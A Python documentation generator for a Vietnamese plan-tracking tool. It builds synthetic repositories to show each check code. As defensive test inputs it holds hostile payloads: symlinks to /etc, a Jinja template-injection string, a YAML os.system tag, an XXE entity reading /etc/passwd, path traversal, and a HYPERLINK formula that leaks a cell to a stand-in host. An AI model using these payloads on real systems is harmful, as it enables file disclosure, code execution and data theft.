"""docs/checks.md, generated from the error catalogue with a real example per code.

Each example is a small SYNTHETIC tracker repository (a made-up plan, areas and figures that
exist only to show the rule), written to a temporary folder and checked; the lines shown are
what `xhht check` prints for it, in Vietnamese and with `--lang en`. Run

    python -m xhht.cli.docgen > docs/checks.md

tests/test_docs.py regenerates the file and fails when docs/checks.md differs.
"""

from __future__ import annotations

import tempfile
from collections.abc import Callable
from pathlib import Path

from xhht.problems.catalogue import CATALOGUE, SECTIONS

PLAN = """\
id: demo
title: Kế hoạch thử (synthetic)
document:
  number: 1/KH-TEST
  issuer: UBND tỉnh Thử
  date: 2020-01-01
area: "90"
period: 2020-2025
groups:
  - code: a
    title: Nhóm a
    indicators:
      - id: ti-le
        name: Tỷ lệ
        unit: percent
        targets: {2022: 80, 2025: 90}
      - id: so-luong
        name: Số lượng
        unit: count
        targets: {2022: 100}
      - id: xep-loai
        name: Xếp loại
        unit: rating
        levels: [Không xếp loại, Trung bình, Khá, Tốt]
        targets: {2022: Khá}
"""

AREAS = """\
code,name,level,parent
90,Tỉnh Thử,tinh,
901,Huyện Một,huyen,90
902,Huyện Hai,huyen,90
"""

HEADER = "indicator,area,period,value,numerator,denominator,source,note\n"

# A SYNTHETIC province across a reform like that of 1/7/2025: district 901 and its two communes end on
# 30/6/2025 and the communes are merged into Xã Mới (90110), directly under the province.
REFORM_AREAS = """\
code,name,level,parent,valid_from,valid_to
90,Tỉnh Thử,tinh,,,
901,Huyện Một,huyen,90,,2025-06-30
902,Huyện Hai,huyen,90,,
90101,Xã A,xa,901,,2025-06-30
90102,Xã B,xa,901,,2025-06-30
90110,Xã Mới,xa,90,2025-07-01,
"""
DATA = HEADER + "ti-le,90,2022,85,,,synthetic,\nso-luong,90,2022,120,,,synthetic,\n"
# A report text file (reports/*.md) of the plan demo.
REPORT = "---\nplan: demo\nperiod: 2020-2022\nbody: Sở Giáo dục và Đào tạo\n---\n"


# A SYNTHETIC standard of a repository (standards/*.yaml): one criterion, one chỉ tiêu.
STANDARD = """\
id: chuan-thu
title: Chuẩn thử (synthetic)
document: {number: 1/TT-TEST, issuer: Bộ Thử, date: 2023-01-01}
level: huyen
result:
  id: chuan-thu-kq
  name: Huyện đạt chuẩn thử
  levels: [Chưa đạt, Đạt]
criteria:
  - code: "1"
    title: Tiêu chí một
    indicators:
      - id: chuan-thu-ct1
        name: Tỷ lệ thử
        unit: percent
        at: {Đạt: ">= 50"}
"""


def commune_figures(area: str, year: int, **changed: str) -> list[str]:
    """The 16 figures of a commune's self-assessment by Thông tư 25/2023 (tt25-2023-xa), SYNTHETIC: every
    chỉ tiêu at mức độ 1 exactly (the bars are inclusive), but mức độ 2 (PCGD THCS mức độ 2, 60%, 50%,
    12%); `changed` gives other values by indicator id."""
    values = {f"cdht-xa-tc{t}-ct{c}": "yes" for t in (1, 2, 3) for c in (1, 2, 3)}
    values.update({"cdht-xa-tc4-ct1": "yes", "cdht-xa-tc4-ct2": "Mức độ 3", "cdht-xa-tc4-ct3": "Mức độ 2",
                   "cdht-xa-tc4-ct4": "Mức độ 2", "cdht-xa-tc5-ct1": "60", "cdht-xa-tc5-ct2": "50",
                   "cdht-xa-tc5-ct2-dh": "12"})
    values.update({k.replace("_", "-"): v for k, v in changed.items()})
    return [f"{ind},{area},{year},{value},,,tự đánh giá (synthetic)," for ind, value in values.items()]


def _plan(old: str, new: str, plan: str = PLAN) -> str:
    assert old in plan, old
    return plan.replace(old, new, 1)


class Link(str):
    """An example file that is a symbolic link to this target."""


def _data(*rows: str) -> str:
    return HEADER + "".join(r + "\n" for r in rows)


# code -> the files that differ from the base repository (plans/demo.yaml, areas.csv, data/d.csv).
# A value None makes a folder; bytes are written as they are.
EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
    "not-utf8": {"data/d.csv": _data("ti-le,90,2022,85,,,Báo cáo,").encode("cp1258")},
    "read-error": {"data/x.csv": Link("missing.csv")},
    "outside-repo": {"data/env.csv": Link("/etc/hostname")},
    "not-regular-file": {"plans/folder.yaml": None},
    "too-large": {"data/d.csv": _data("ti-le,90,2022,85,,," + "x" * 5000 + ",")},
    "bad-character": {"plans/demo.yaml": _plan("title: Kế hoạch thử", "title: Kế hoạch\u2028thử"),
                      "data/d.csv": _data("ti-le,90,2023,85,,,x,chép từ web\x1b[2J")},
    "template-error": {"templates/report.md.j2": "# {{ view.heading }}\n{{ cycler.__init__.__globals__.os }}\n"},
    "config-syntax": {"xhht.toml": "lang = \n"},
    "unknown-setting": {"xhht.toml": "lnag = \"vi\"\n[report]\nbody = \"Sở Giáo dục và Đào tạo\"\nsigner_name = \"x\"\n"},
    "bad-setting": {"xhht.toml": 'lang = "fr"\n[report]\nrecipients = "UBND tỉnh"\n'},
    "yaml-syntax": {"plans/demo.yaml": _plan("title: Nhóm a", "title: [Nhóm a")},
    "yaml-unsafe": {"plans/demo.yaml": _plan("title: Nhóm a", 'title: !!python/object/apply:os.system ["echo hi"]')},
    "duplicate-key": {"plans/demo.yaml": _plan("title: Kế hoạch thử (synthetic)\n",
                                               "title: Kế hoạch thử (synthetic)\ntitle: again\n")},
    "unknown-key": {"plans/demo.yaml": _plan("targets: {2022: 80, 2025: 90}", "target: {2022: 80, 2025: 90}")},
    "missing-key": {"plans/demo.yaml": _plan("        name: Tỷ lệ\n", "")},
    "wrong-type": {"plans/demo.yaml": _plan('area: "90"', "area: 90")},
    "bad-choice": {"plans/demo.yaml": _plan("unit: percent", "unit: percnt")},
    "bad-id": {"plans/demo.yaml": _plan("id: demo", "id: Demo_Plan")},
    "duplicate-plan-id": {"plans/demo2.yaml": PLAN},
    "duplicate-indicator": {"plans/demo.yaml": _plan("id: so-luong", "id: ti-le")},
    "indicator-conflict": {"plans/other.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 80}", _plan(
        "unit: percent", "unit: count", _plan("id: demo", "id: other")))},
    "bad-holds-for": {"plans/demo.yaml": _plan("        levels: [Không xếp loại, Trung bình, Khá, Tốt]\n",
                                               "        levels: [Không xếp loại, Trung bình, Khá, Tốt]\n"
                                               "        holds_for: 0\n")},
    "bad-period": {"plans/demo.yaml": _plan("period: 2020-2025", "period: 2025-2020")},
    "target-outside-period": {"plans/demo.yaml": _plan("{2022: 80, 2025: 90}", "{2019: 80, 2025: 90}")},
    "target-out-of-range": {"plans/demo.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 120, 2025: 90}")},
    "target-not-whole": {"plans/demo.yaml": _plan("{2022: 100}", "{2022: 100.5}")},
    "target-unknown-level": {"plans/demo.yaml": _plan("{2022: Khá}", "{2022: Giỏi}")},
    "bad-comparator": {"plans/demo.yaml": _plan("{2022: 80, 2025: 90}", '{2022: "=> 80", 2025: 90}')},
    "change-not-allowed": {"plans/demo.yaml": _plan("{2022: Khá}", "{2022: increase}")},
    "missing-levels": {"plans/demo.yaml": _plan("        levels: [Không xếp loại, Trung bình, Khá, Tốt]\n", "")},
    "duplicate-level": {"plans/demo.yaml": _plan("levels: [Không xếp loại, Trung bình, Khá, Tốt]",
                                                 "levels: [Không xếp loại, Khá, Khá, Tốt]")},
    "levels-not-allowed": {"plans/demo.yaml": _plan("        unit: count\n", "        unit: count\n        levels: [1, 2]\n")},
    "subunit-without-measure": {"plans/demo.yaml": _plan(
        "        targets: {2022: 100}\n",
        '        targets: {2022: 100}\n        subunits:\n          - level: huyen\n            meeting: ">= 80"\n')},
    "unknown-parent-plan": {"plans/demo.yaml": _plan('area: "90"', 'area: "90"\nparent: khong-co')},
    "unknown-plan-area": {"plans/demo.yaml": _plan('area: "90"', 'area: "99"')},
    "duplicate-standard": {"standards/xa.yaml": STANDARD.replace("id: chuan-thu\n", "id: tt25-2023-xa\n")},
    "standard-indicator-taken": {"standards/thu.yaml": STANDARD.replace("id: chuan-thu-ct1", "id: cdht-xa-tc1-ct1")},
    "standard-bad-level": {"standards/thu.yaml": STANDARD.replace('{Đạt: ">= 50"}', '{Mức độ 1: ">= 50"}')},
    "bad-share": {"standards/thu.yaml": STANDARD.replace(
        "        unit: percent\n", "        unit: percent\n        subunits: {level: tinh, indicator: cdht-tinh}\n")},
    "level-disagrees": {"areas.csv": AREAS + "90101,Xã Một,xa,901\n",
                        "data/xa.csv": _data(*commune_figures("90101", 2024),
                                             "cdht-xa,90101,2024,Mức độ 2,,,Quyết định công nhận (synthetic),")},
    "duplicate-area": {"areas.csv": AREAS + "901,Huyện Một lần nữa,huyen,90\n"},
    "area-unknown-parent": {"areas.csv": AREAS + "903,Huyện Ba,huyen,95\n"},
    "area-cycle": {"areas.csv": AREAS + "91001,Xã A,xa,91002\n91002,Xã B,xa,91001\n"},
    "area-bad-level": {"areas.csv": AREAS + "903,Huyện Ba,quan,90\n"},
    "area-bad-code": {"areas.csv": AREAS + "../903,Huyện Ba,huyen,90\n"},
    "bad-tag": {"areas.csv": "code,name,level,parent,tags\n90,Tỉnh Thử,tinh,,\n901,Huyện Một,huyen,90,\n"
                             "902,Huyện Hai,huyen,90,\n90101,Xã Một,xa,901,khó-khăn\n"},
    "area-level-order": {"areas.csv": AREAS + "903,Huyện Ba,tinh,90\n"},
    "area-bad-date": {"areas.csv": "code,name,level,parent,valid_from,valid_to\n" + AREAS.split("\n", 1)[1].replace(
        "\n", ",,\n") + "903,Huyện Ba,huyen,90,,30/6/2025\n"},
    "area-not-valid": {"areas.csv": "code,name,level,parent,valid_from,valid_to\n" + AREAS.split("\n", 1)[1].replace(
        "902,Huyện Hai,huyen,90\n", "902,Huyện Hai,huyen,90,,2025-06-30\n").replace("\n", ",,\n").replace(
        "2025-06-30,,", "2025-06-30"), "data/d.csv": _data("so-luong,902,2026,60,,,x,")},
    "area-change-unknown": {"areas.csv": REFORM_AREAS, "area-changes.csv": "date,old,new,whole\n2025-07-01,90101,90102,yes\n"},
    "area-change-dates": {"areas.csv": REFORM_AREAS.replace("90101,Xã A,xa,901,,2025-06-30", "90101,Xã A,xa,901,,"),
                          "area-changes.csv": "date,old,new,whole\n2025-07-01,90101,90110,yes\n"
                                              "2025-07-01,90102,90110,yes\n"},
    "area-change-conflict": {"areas.csv": REFORM_AREAS, "area-changes.csv": "date,old,new,whole\n2025-07-01,90101,90110,yes\n"
                                                                               "2025-07-01,90101,90110,yes\n"
                                                                               "2025-07-01,90102,90110,yes\n"},
    "area-change-whole": {"areas.csv": REFORM_AREAS, "area-changes.csv": "date,old,new,whole\n2025-07-01,90101,90110,toàn bộ\n"
                                                                         "2025-07-01,90102,90110,yes\n"},
    "area-change-incomplete": {"areas.csv": REFORM_AREAS, "area-changes.csv": "date,old,new,whole\n2025-07-01,90101,90110,no\n"
                                                                              "2025-07-01,90102,90110,yes\n"},
    "csv-syntax": {"data/d.csv": _data('ti-le,90,2023,"85,,,x,')},
    "csv-separator": {"data/d.csv": DATA.replace(",", ";")},
    "missing-header": {"data/d.csv": "\n\n"},
    "unknown-column": {"areas.csv": "code,name,level,parent,dân số\n90,Tỉnh Thử,tinh,,1\n"},
    "missing-column": {"areas.csv": "code,name,parent\n90,Tỉnh Thử,\n"},
    "duplicate-column": {"data/d.csv": "indicator,area,period,value,value\nti-le,90,2023,85,85\n"},
    "ragged-row": {"data/d.csv": _data("ti-le,90,2023,71,4,,,x,")},
    "missing-value": {"areas.csv": AREAS + "903,,huyen,90\n"},
    "unknown-indicator": {"data/d.csv": _data("ti-l,90,2023,85,,,x,")},
    "unknown-area": {"data/d.csv": _data("ti-le,99,2023,85,,,x,")},
    "bad-figure-period": {"data/d.csv": _data("ti-le,90,2023-2024,85,,,x,")},
    "non-canonical-number": {"data/d.csv": _data('ti-le,90,2023,"71,4",,,x,', "so-luong,90,2023,2.540,,,x,")},
    "percent-out-of-range": {"data/d.csv": _data("ti-le,90,2023,101,,,x,")},
    "negative-count": {"data/d.csv": _data("so-luong,90,2023,-3,,,x,")},
    "fractional-count": {"data/d.csv": _data("so-luong,90,2023,2.5,,,x,", "ti-le,901,2023,,1.5,3,x,")},
    "number-too-long": {"data/d.csv": _data("so-luong,90,2023," + "1" * 41 + ",,,x,")},
    "negative-zero": {"data/d.csv": _data("ti-le,90,2023,-0,,,x,")},
    "unknown-level": {"data/d.csv": _data("xep-loai,90,2023,Giỏi,,,x,")},
    "incomplete-fraction": {"data/d.csv": _data("ti-le,90,2023,75,3,,x,")},
    "zero-denominator": {"data/d.csv": _data("ti-le,90,2023,,0,0,x,")},
    "fraction-not-percent": {"data/d.csv": _data("so-luong,90,2023,,3,4,x,")},
    "numerator-exceeds-denominator": {"data/d.csv": _data("ti-le,90,2023,,30,20,x,")},
    "value-disagrees": {"data/d.csv": _data("ti-le,90,2023,33.4,4,12,x,")},
    "duplicate-figure": {"data/d.csv": _data("ti-le,90,2023,85,,,x,", "ti-le,90,2023,85,,,x,")},
    "rollup-disagrees": {"data/d.csv": _data("so-luong,90,2022,120,,,x,", "so-luong,901,2022,50,,,x,",
                                             "so-luong,902,2022,60,,,x,")},
    "rollup-needs-counts": {"data/d.csv": _data("ti-le,901,2022,85,,,x,", "ti-le,902,2022,,40,50,x,",
                                                "so-luong,90,2022,120,,,x,")},
    "area-outside-plan": {"plans/demo.yaml": _plan('area: "90"', 'area: "901"'),
                          "data/d.csv": _data("so-luong,902,2022,60,,,x,")},
    "plan-cycle": {"plans/demo.yaml": _plan('area: "90"', 'area: "90"\nparent: demo')},
    "weaker-than-parent": {"plans/huyen.yaml": _plan("{2022: 80, 2025: 90}", "{2022: 75}", _plan(
        'area: "90"', 'area: "901"\nparent: demo', _plan("id: demo", "id: huyen")))},
    "report-front-matter": {"reports/so-ket.md": "## Công tác chỉ đạo, triển khai\nSở đã ban hành kế hoạch.\n"},
    "report-unknown-section": {"reports/so-ket.md": REPORT + "## Kết quả khac\nx\n"},
    "report-heading-level": {"reports/so-ket.md": REPORT + "# Kiến nghị, đề xuất\nx\n"},
    "report-duplicate-section": {"reports/so-ket.md": REPORT + "## Nguyên nhân\nx\n\n## nguyên nhân\ny\n"},
    "report-section-order": {"reports/so-ket.md": REPORT + "## Nhiệm vụ, giải pháp\nx\n\n## Nguyên nhân\ny\n"},
    "report-text-outside": {"reports/so-ket.md": REPORT + "Kính gửi: UBND tỉnh\n\n## Nguyên nhân\nx\n"},
    "report-unknown-plan": {"reports/so-ket.md": REPORT.replace("plan: demo", "plan: dmeo")},
    "report-period": {"reports/so-ket.md": REPORT.replace("period: 2020-2022", "period: 2026-2027")},
    # xhht import: the repository's files; the file imported is in IMPORTS
    "ambiguous-number": {},
    "figure-conflict": {},
    "import-target": {"data/2022/so-lieu.csv": "indicator,area,period,value\n"},
    "import-path": {"data/2022": Link("/etc")},
    "more-problems": {"data/d.csv": _data(*[f"chi-tieu-{i},90,2023,1,,,x," for i in range(1500)])},
    "formula-text": {"plans/demo.yaml": _plan("name: Số lượng", "name: '=HYPERLINK(\"http://x.invalid/?\"&D3)'")},
    "bad-workbook": {},
    "no-data-sheet": {},
    "no-keys-row": {},
    "unkeyed-cell": {},
    "unknown-encoding": {},
}

def _xlsx(sheet: str = "Số liệu", doctype: bool = False) -> bytes:
    """A SYNTHETIC workbook with one sheet; with `doctype`, its sheet part declares an entity."""
    import io
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = sheet
    wb.active.append(["indicator", "area", "period", "value"])
    wb.active.append(["ti-le", "901", 2022, 80])
    buf = io.BytesIO()
    wb.save(buf)
    if not doctype:
        return buf.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            body = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet', 1)
            dst.writestr(name, body)
    return out.getvalue()


# code -> the content of `so-lieu.csv` (or of `so-lieu.xlsx`: a function that makes the workbook),
# imported with `xhht import so-lieu.csv` into the example.
IMPORTS: dict[str, bytes | Callable[[], bytes]] = {
    "bad-workbook": lambda: _xlsx(doctype=True),
    "no-data-sheet": lambda: _xlsx("Sheet1"),
    "ambiguous-number": "indicator;area;period;value\nti-le;901;2022;1.234\nso-luong;901;2022;1,234\n".encode(),
    "figure-conflict": b"indicator,area,period,value\nti-le,90,2022,86\n",
    "import-target": b"indicator,area,period,value\nti-le,901,2022,80\n",
    "import-path": b"indicator,area,period,value\nti-le,901,2022,80\n",
    "no-keys-row": "Chỉ tiêu;Kết quả\nTỷ lệ;80\n".encode(),
    "unkeyed-cell": "indicator,area,period,value,,note\nti-le,901,2022,80,xem lại,\n".encode(),
    "unknown-encoding": b"indicator,area,period,value\nti-le,901,2022,80\x81\n",
}


def write_import_form(root: Path, code: str) -> Path:
    """The form of IMPORTS[code] written into `root` (so-lieu.csv, or so-lieu.xlsx for a workbook)."""
    content = IMPORTS[code]
    form = root / ("so-lieu.csv" if isinstance(content, bytes) else "so-lieu.xlsx")
    form.write_bytes(content if isinstance(content, bytes) else content())
    return form


def write_example(root: Path, files: dict[str, str | bytes | None]) -> Path:
    """The base synthetic repository with `files` written over it."""
    base: dict[str, str | bytes | None] = {"plans/demo.yaml": PLAN, "areas.csv": AREAS, "data/d.csv": DATA}
    for name, content in {**base, **files}.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content)
        elif content is None:
            path.mkdir()
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return root


def example_problems(code: str) -> list:
    """The problems of `code` that `xhht check` (or `xhht import so-lieu.csv`) finds in the example."""
    from xhht.repo import load_repo

    with tempfile.TemporaryDirectory(prefix="xhht-example-") as tmp:
        root = write_example(Path(tmp), EXAMPLES[code])
        if code in IMPORTS:
            from xhht.excel.importer import run_import

            form = write_import_form(root, code)
            problems = run_import([form], load_repo(root), None, False, name=lambda p: p.name).problems
            return [p for p in problems if p.code == code]
        if code == "more-problems":  # made when problems are printed
            from xhht.present.problem_text import printed

            return [p for p, _ in printed(load_repo(root).problems) if p.code == code]
        if code == "template-error":  # found by `xhht report`, when the template runs
            from xhht.problems import DataError
            from xhht.present.render import environment

            try:
                environment(root / "templates", "md").get_template("report.md.j2").render(view={"heading": ""})
            except DataError as exc:
                return exc.problems
            return []
        return [p for p in load_repo(root).problems if p.code == code]


def example_lines(code: str, lang: str) -> list[str]:
    from xhht.present.problem_text import problem_lines

    return [line for p in example_problems(code) for line in problem_lines(p, lang)]


INTRO = """\
# Check codes

<!-- Generated from src/xhht/problems/catalogue.py by `python -m xhht.cli.docgen > docs/checks.md`;
     tests/test_docs.py fails when this file is not up to date. Do not edit by hand. -->

`xhht check` prints one line per problem, then its hint, in Vietnamese by default:

```
FILE:LINE:COL: SEVERITY[CODE] THÔNG BÁO
    gợi ý: CÁCH VIẾT ĐÚNG
```

`xhht check --lang en` (or `lang = "en"` in `xhht.toml`) words the same problems in English
(`hint:` instead of `gợi ý:`). The severity (`error`, `warning`) and the code are the same in every
language, and so are the keys of `--format json` (`message` and `hint` are in the chosen language).
The last line counts them: `2 lỗi, 1 cảnh báo trong 1 tệp` (`2 errors, 1 warning in 1 file`), or
`không có lỗi` (`no problems found`).

The codes are stable: CI scripts and `--format json` may rely on them, and one code is one fault.
Every example below is real output of `xhht check` on a small synthetic repository (the test suite
regenerates each of them and compares). An `error` makes `check` exit 1; a `warning` only with
`--strict` (or `strict = true` in `xhht.toml`).

| code | severity | what |
| --- | --- | --- |
"""


def checks_md() -> str:
    out = [INTRO]
    for entry in CATALOGUE.values():
        out.append(f"| [`{entry.code}`](#{entry.anchor.split('#')[1]}) | {entry.severity} | {entry.summary} |\n")
    for section, (title, title_vi) in SECTIONS.items():
        entries = [e for e in CATALOGUE.values() if e.section == section]
        if not entries:
            continue
        out.append(f"\n## {title} — {title_vi}\n")
        for e in entries:
            out.append(f"\n### {e.code}\n")
            prose = (e.summary[0].upper() + e.summary[1:] if e.summary[0].isalpha() else e.summary) + "."
            if e.doc:
                prose += " " + e.doc
            out.append(_wrap(prose) + "\n")
            out.append("```\n" + "\n".join(example_lines(e.code, "vi")) + "\n```\n")
            out.append("With `--lang en`:\n")
            out.append("```\n" + "\n".join(example_lines(e.code, "en")) + "\n```\n")
    return "".join(out)


def _wrap(text: str, width: int = 100) -> str:
    lines, line = [], ""
    for word in text.split():
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    if line:
        lines.append(line)
    return "\n".join(lines)


if __name__ == "__main__":
    import sys

    sys.stdout.write(checks_md())
